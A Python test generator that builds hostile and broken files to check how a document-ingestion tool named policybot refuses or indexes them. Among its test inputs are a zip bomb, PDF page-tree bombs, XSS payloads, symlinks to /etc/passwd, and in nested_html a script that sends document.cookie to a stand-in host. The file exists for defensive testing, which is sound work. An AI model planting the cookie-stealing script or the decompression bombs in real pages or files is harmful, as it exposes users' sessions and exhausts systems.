"""Writes tests/data/bad/: the hostile and broken documents offices really hold.

Nothing here is committed but this generator; `python -m tests.bad_corpus DIR` writes the
folder for a person who wants to feed it to `policybot ingest` by hand. Each file comes
with what must happen to it: indexed (and a phrase that must then be found) or refused
(and words the reason must contain).
"""

from __future__ import annotations

import io
import os
import random
import sys
import unicodedata
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from policybot.reading.legacy import encode_tcvn3, encode_vni

# Lower-case with plain capitals only, so TCVN3 can hold it too.
VIETNAMESE = (
    "Nghị quyết số 10 về chuyển đổi số của tỉnh Quảng Trị được ban hành để phát triển "
    "kinh tế số và xã hội số, nâng cao chất lượng phục vụ người dân."
)
ASCII_TEXT = "Nghi quyet so 10 ve chuyen doi so cua tinh Quang Tri duoc ban hanh nam 2021."
HUGE_BYTES = 200 * 2**20
ZIP_BOMB_BYTES = 2**30


@dataclass(frozen=True)
class Expect:
    """indexed=True: loaded, and `text` occurs in it; else refused with `text` in the reason."""

    indexed: bool
    text: str


def _marked(tag: str) -> str:
    """The shared text plus a word that exists in this file only, to find it by search."""
    return f"{VIETNAMESE}\n\nTệp kiểm tra {tag}."


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF from numbered objects (1 = catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def _pdf_string(text: str) -> bytes:
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("latin-1") + b")"


def text_pdf(pages: Sequence[str | Sequence[str]]) -> bytes:
    """Pages of Helvetica text (Latin-1): a page is one line, or a list of lines (an empty
    list is a page with no text)."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"", font]
    kids = []
    for page in pages:
        lines = [page] if isinstance(page, str) else list(page)
        ops = [b"BT /F1 12 Tf 16 TL 72 720 Td"]
        ops += [_pdf_string(line) + b" Tj T*" for line in lines]
        objects.append(_stream(b"\n".join([*ops, b"ET"])))
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % len(objects)
        )
        kids.append(len(objects))
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % k for k in kids),
        len(kids),
    )
    return _pdf(objects)


def scanned_pdf() -> bytes:
    """One page that is only a picture: what a scanner without OCR produces."""
    pixels = bytes(random.Random(7).randrange(256) for _ in range(64 * 64))
    image = _stream(
        pixels,
        b"/Type /XObject /Subtype /Image /Width 64 /Height 64 "
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 ",
    )
    content = _stream(b"q 500 0 0 700 50 50 cm /Im1 Do Q")
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>",
            image,
            content,
        ]
    )


def page_bomb_pdf(levels: int = 9, fan: int = 10, lie: bool = False) -> bytes:
    """A 2 KB PDF whose page tree fans out to fan**levels pages (one page object reused).
    With lie=True the root claims /Count 1, so only walking the tree can tell."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        kids = b" ".join([b"%d 0 R" % (3 + level)] * fan)
        count = 1 if lie and level == 0 else fan ** (levels - level)
        objects.append(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count))
    content = b"BT /F1 12 Tf 72 720 Td (bomb) Tj ET"
    objects.append(b"<< /Type /Page /MediaBox [0 0 612 792] /Contents %d 0 R >>" % (levels + 3))
    objects.append(_stream(content))
    return _pdf(objects)


def encrypt_pdf(
    pdf: bytes, user_password: str, owner_password: str, algorithm: str = "AES-256"
) -> bytes:
    """`pdf` locked with pypdf: an empty user password opens it, the owner one guards rights."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password, owner_password, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf(user_password: str, owner_password: str) -> bytes:
    return encrypt_pdf(text_pdf([ASCII_TEXT, "ma-hoa-aes"]), user_password, owner_password)


def docx_bytes(paragraphs: list[str], font: str | None = None) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs:
        run = document.add_paragraph().add_run(text)
        if font:
            run.font.name = font
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def write_zip_bomb(path: Path, unpacked: int = ZIP_BOMB_BYTES) -> None:
    """A real .docx whose word/document.xml is replaced by `unpacked` bytes of zeros that
    compress about 1,000:1: python-docx would read all of it into memory."""
    template = zipfile.ZipFile(io.BytesIO(docx_bytes(["bom"])))
    block = b"\0" * 2**20
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for entry in template.infolist():
            if entry.filename != "word/document.xml":
                archive.writestr(entry.filename, template.read(entry.filename))
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(unpacked // len(block)):
                member.write(block)


def nested_html(megabytes: int = 10) -> bytes:
    """Scripts, and megabytes of nested tags around one paragraph of real text."""
    depth = megabytes * 2**20 // 11
    inner = f"<p>{_marked('longnhau')}</p>"
    return (
        "<html><head><title>Trang lồng nhau</title><script>alert('xss')</script></head>"
        "<body><script>document.write('chen ma doc')</script>"
        + "<div>" * depth
        + inner
        + "</div>" * depth
        + "<script>fetch('http://ke-xau.example/'+document.cookie)</script></body></html>"
    ).encode("utf-8")


def write_huge_text(path: Path, size: int = HUGE_BYTES) -> None:
    line = (VIETNAMESE + "\n").encode("utf-8")
    block = line * (2**20 // len(line) + 1)
    with path.open("wb") as handle:
        written = 0
        while written < size:
            handle.write(block)
            written += len(block)


def write_bad_corpus(folder: Path, huge: bool = True) -> dict[str, Expect]:
    """Write every bad file into `folder` (emptied first); return what must happen to each,
    by file name. `huge` adds the 200 MB text file and the 1 GB zip bomb."""
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.iterdir():
        if old.is_dir() and not old.is_symlink():
            import shutil

            shutil.rmtree(old)
        else:
            old.unlink()
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir(exist_ok=True)
    (outside / "bi-mat.txt").write_text("Mật khẩu của máy chủ: khong-duoc-lo\n", encoding="utf-8")
    expect: dict[str, Expect] = {}

    def put(name: str, data: bytes, outcome: Expect) -> None:
        (folder / name).write_bytes(data)
        expect[name] = outcome

    put("rong.txt", b"", Expect(False, "empty file"))
    junk = random.Random(1).randbytes(64 * 1024)
    put("rac-nhi-phan.txt", junk, Expect(False, "binary data"))
    put("rac-nhi-phan.pdf", junk, Expect(False, "PDF"))
    put("rac-nhi-phan.docx", junk, Expect(False, "not a valid .docx"))
    full = text_pdf([ASCII_TEXT, "trang hai cat cut"])
    put("cat-cut.pdf", full[: len(full) // 3], Expect(False, "PDF"))
    put("mat-khau.pdf", encrypted_pdf("mat-khau", "chu-so-huu"), Expect(False, "password"))
    put("chi-chu-so-huu.pdf", encrypted_pdf("", "chu-so-huu"), Expect(True, "ma-hoa-aes"))
    put("scan.pdf", scanned_pdf(), Expect(False, "not even by OCR"))
    put("bom-trang.pdf", page_bomb_pdf(), Expect(False, "pages"))
    put("bom-trang-noi-doi.pdf", page_bomb_pdf(lie=True), Expect(False, "pages"))
    many = text_pdf([f"trang {i}" for i in range(2001)])
    put("qua-nhieu-trang.pdf", many, Expect(False, "at most 2000 are read"))
    put("tot.pdf", text_pdf([ASCII_TEXT, "kiemtra pdftot"]), Expect(True, "kiemtra pdftot"))
    put("trang-web-long-nhau.html", nested_html(), Expect(True, "longnhau"))
    put("utf16.txt", _marked("utf16bom").encode("utf-16"), Expect(True, "utf16bom"))
    put(
        "utf16-khong-bom.txt",
        _marked("utf16le").encode("utf-16-le"),
        Expect(True, "utf16le"),
    )
    put(
        "windows-1258.txt",
        cp1258_bytes(_marked("cpmuoihai")),
        Expect(True, "chuyển đổi số"),
    )
    put(
        "nfd.txt",
        unicodedata.normalize("NFD", _marked("nfd")).encode("utf-8"),
        Expect(True, "chuyển đổi số"),
    )
    put("tcvn3.txt", encode_tcvn3(_marked("tcvnba")), Expect(True, "Quảng Trị"))
    put("vni.txt", encode_vni(_marked("vni")), Expect(True, "Quảng Trị"))
    tcvn3_in_word = encode_tcvn3(_marked("wordtcvn")).decode("cp1252")
    put(
        "tcvn3-trong-word.docx",
        docx_bytes(tcvn3_in_word.split("\n\n"), font=".VnTime"),
        Expect(True, "chuyển đổi số"),
    )
    put(
        "Nghị quyết số 10 về chuyển đổi số.txt",
        _marked("tenfile").encode("utf-8"),
        Expect(True, "tenfile"),
    )
    put(
        "kich-ban.html",
        (
            "<html><head><title>Tin</title><script>alert(1)</script></head><body>"
            f"<article><p>{_marked('kichban')}</p></article>"
            "<img src=x onerror=alert(2)><script>document.cookie</script></body></html>"
        ).encode(),
        Expect(True, "kichban"),
    )
    # Links: one out of the folder (to a file, to /etc/passwd, to a folder), one dangling.
    os.symlink(outside / "bi-mat.txt", folder / "lien-ket-ra-ngoai.txt")
    expect["lien-ket-ra-ngoai.txt"] = Expect(False, "outside the documents folder")
    os.symlink("/etc/passwd", folder / "passwd.txt")
    expect["passwd.txt"] = Expect(False, "outside the documents folder")
    os.symlink(outside, folder / "thu-muc-ngoai")
    expect["thu-muc-ngoai"] = Expect(False, "outside the documents folder")
    os.symlink(folder / "khong-ton-tai.txt", folder / "lien-ket-hong.txt")
    expect["lien-ket-hong.txt"] = Expect(False, "broken symbolic link")
    bad_name = os.fsdecode(b"ten-\xff\xfe-hong.txt")
    (folder / bad_name).write_bytes(_marked("tenhong").encode("utf-8"))
    expect[bad_name] = Expect(False, "not valid UTF-8")
    if huge:
        write_huge_text(folder / "qua-lon.txt")
        expect["qua-lon.txt"] = Expect(False, "larger than 50 MB")
        write_zip_bomb(folder / "bom-nen.docx")
        expect["bom-nen.docx"] = Expect(False, "zip bomb")
    return expect


_TONE_MARKS = "\u0300\u0301\u0303\u0309\u0323"


def cp1258_bytes(text: str) -> bytes:
    """Windows-1258 as Windows writes it: a letter the code page holds whole is one byte
    (á, â, ơ, ư...); any other toned letter is its base letter, then a tone byte (ấ, ạ)."""
    out = b""
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        tones = "".join(c for c in parts if c in _TONE_MARKS)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONE_MARKS))
        out += (base + tones).encode("cp1258")
    return out


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "tests/data/bad")
    for name, outcome in write_bad_corpus(target).items():
        print(f"{'index ' if outcome.indexed else 'refuse'}  {name}: {outcome.text}")
